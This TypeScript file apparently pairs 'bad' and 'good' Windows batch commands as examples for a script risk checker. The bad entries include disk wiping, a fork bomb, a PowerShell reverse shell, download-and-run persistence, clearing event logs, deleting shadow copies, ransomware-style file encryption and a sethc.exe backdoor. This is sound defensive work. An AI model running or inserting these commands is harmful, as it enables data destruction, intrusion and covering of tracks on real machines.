import type { RuleId } from "..";
import type { RiskExample } from "../rule";
import { batAccessExamples } from "./batAccess";

const raw = String.raw;

export const batExamples: Partial<Record<RuleId, RiskExample>> = {
  // Recursive delete
  "delete-protected": {
    bad: raw`rd /s /q C:\Users`,
    good: raw`rd /s /q D:\Apps\Shop\cache`,
  },
  "delete-maybe-empty": {
    bad: raw`rd /s /q "%APP_HOME%\"`,
    good: 'if not defined APP_HOME exit /b 1\nrd /s /q "%APP_HOME%\\cache"',
  },
  "delete-unbounded": {
    bad: raw`del /s /q *.*`,
    good: raw`del /s /q D:\Apps\Shop\tmp\*.*`,
  },
  "delete-unknown": {
    bad: raw`rd /s /q "%~1"`,
    good: raw`rd /s /q D:\Apps\Shop\old`,
  },
  "move-protected": {
    bad: raw`move C:\Users D:\Users.old`,
    good: raw`move D:\Apps\Shop\logs\app.log D:\Apps\Shop\old`,
  },
  // Disks
  "write-device": {
    bad: raw`type image.bin > \\.\PhysicalDrive1`,
    good: raw`type part1.log > D:\Apps\Shop\all.log`,
  },
  "make-file-system": {
    bad: "format D: /fs:ntfs /q /y",
    good: "fsutil fsinfo volumeinfo D:",
  },
  "change-partitions": {
    bad: "(echo select disk 1\necho clean) > d.txt\ndiskpart /s d.txt",
    good: "(echo list disk\necho list volume) > d.txt\ndiskpart /s d.txt",
  },
  "remove-volume": {
    bad: "mountvol E: /d",
    good: "mountvol E: /l",
  },
  "erase-disk": {
    bad: "cipher /w:D",
    good: "cipher /c D:\\Apps",
  },
  "fill-disk": {
    bad: ":more\necho line >> D:\\fill.txt\ngoto more",
    good: "for /l %%i in (1,1,10) do echo line >> D:\\ten.txt",
  },
  // Boot and system state
  "power-off": {
    bad: "shutdown /r /t 0",
    good: "shutdown /a",
  },
  "kill-everything": {
    bad: 'taskkill /f /fi "pid gt 4"',
    good: "taskkill /f /im shop.exe",
  },
  "fork-bomb": {
    bad: "%0|%0",
    good: "for %%j in (one two) do start /b D:\\Apps\\job.exe %%j",
  },
  "stop-system-service": {
    bad: "sc stop RpcSs",
    good: "sc stop Shop",
  },
  "break-boot": {
    bad: "bcdedit /delete {current} /f",
    good: "bcdedit /enum all",
  },
  "overwrite-system-file": {
    bad: raw`echo 10.0.0.1 db> %SystemRoot%\System32\drivers\etc\hosts`,
    good: raw`echo 10.0.0.1 db>> %SystemRoot%\System32\drivers\etc\hosts`,
  },
  ...batAccessExamples,
  // Remote code
  "run-download": {
    bad: "curl -o setup.exe http://files.example.com/setup.exe\nsetup.exe /S",
    good: "curl -o setup.exe https://files.example.com/setup.exe\ncertutil -hashfile setup.exe SHA256 | findstr /i 3f5a8c1d9e7b || exit /b 1\nsetup.exe /S",
  },
  "remote-shell": {
    bad: `powershell -c "$c=New-Object Net.Sockets.TCPClient('192.0.2.9',443);$s=$c.GetStream();$d=$s.Read();iex $d"`,
    good: `powershell -c "Test-NetConnection 192.0.2.9 -Port 443"`,
  },
  "run-hidden": {
    bad: raw`rundll32 javascript:"\..\mshtml,RunHTMLApplication";document.write()`,
    good: "rundll32 printui.dll,PrintUIEntry /?",
  },
  "run-unknown": {
    bad: "powershell -enc %CODE%",
    good: `powershell -c "Get-Date"`,
  },
  "untrusted-package": {
    bad: "choco install agent --source http://packages.example.com",
    good: "choco install agent --version 7.3.0",
  },
  // Data
  "sql-destroy": {
    bad: `sqlcmd -S . -Q "DROP DATABASE shop"`,
    good: `sqlcmd -S . -Q "SELECT name FROM sys.databases"`,
  },
  "flush-store": {
    bad: "redis-cli FLUSHALL",
    good: "redis-cli INFO",
  },
  "remove-containers": {
    bad: "docker system prune -a -f --volumes",
    good: "docker image prune -f --filter until=168h",
  },
  "delete-cluster-objects": {
    bad: "kubectl delete pvc --all --all-namespaces",
    good: "kubectl delete job migrate-7 -n shop",
  },
  "delete-stored-objects": {
    bad: "appcmd list site /xml | appcmd delete site /in",
    good: "appcmd list site",
  },
  "delete-backups": {
    bad: "wbadmin delete catalog -quiet",
    good: "wbadmin get versions",
  },
  "overwrite-data": {
    bad: raw`type nul > D:\SqlData\shop.mdf`,
    good: raw`type nul > D:\Apps\Shop\ready.flag`,
  },
  // Logs
  "clear-logs": {
    bad: "for /f %%L in ('wevtutil el') do wevtutil cl %%L",
    good: raw`wevtutil epl System D:\logs\system.evtx`,
  },
  "stop-audit": {
    bad: "auditpol /clear /y",
    good: "auditpol /get /category:*",
  },
  "hide-history": {
    bad: "powershell -c Clear-History",
    good: "powershell -c Get-History",
  },
  // Encryption
  "encrypt-files": {
    bad: raw`for /r D:\Shares %%F in (*.docx) do 7z a -p%RANDOM% -sdel "%%F.7z" "%%F"`,
    good: raw`7z a -mhe=on -pKEY E:\conf.7z D:\Apps\Shop\conf`,
  },
  "delete-snapshots": {
    bad: "vssadmin delete shadows /all /quiet",
    good: "vssadmin list shadows",
  },
  // Packages
  "remove-essential-package": {
    bad: "dism /online /remove-package /packagename:Microsoft-Windows-Foundation",
    good: "dism /online /get-packages",
  },
  "force-package-removal": {
    bad: "pnputil /delete-driver oem7.inf /uninstall /force",
    good: "pnputil /enum-drivers",
  },
  "remove-many-packages": {
    bad: `wmic product where "name like '%%'" call uninstall /nointeractive`,
    good: "msiexec /x {4D1F6A52-0E0B-4C1E-9C55-4A7C0B1D2E3F} /qn",
  },
  // Persistence
  "scheduled-code": {
    bad: `schtasks /create /tn Refresh /sc minute /tr "powershell -c iex(irm http://cfg.example.com)"`,
    good: raw`schtasks /create /tn Report /sc daily /tr "D:\Apps\Shop\report.cmd"`,
  },
  "start-up-code": {
    bad: raw`reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v Update /d "%TEMP%\update.exe" /f`,
    good: raw`reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v Shop /d "C:\Program Files\Shop\tray.exe" /f`,
  },
  "preload-library": {
    bad: raw`reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows" /v AppInit_DLLs /d C:\x.dll /f`,
    good: raw`reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Windows" /v AppInit_DLLs`,
  },
  "replace-program": {
    bad: raw`copy /y cmd.exe C:\Windows\System32\sethc.exe`,
    good: raw`copy /y shop.exe "C:\Program Files\Shop\shop.exe"`,
  },
  "remove-schedule": {
    bad: "schtasks /delete /tn * /f",
    good: "schtasks /delete /tn Report /f",
  },
  // Not analysed
  "not-analysed": {
    bad: "diskpart /s D:\\plan.txt",
    good: "echo list disk > d.txt\ndiskpart /s d.txt",
  },
  "unclear-command": {
    bad: raw`%TOOL% /s /q C:\Windows`,
    good: raw`set TOOL=echo${"\n"}%TOOL% C:\Windows`,
  },
};
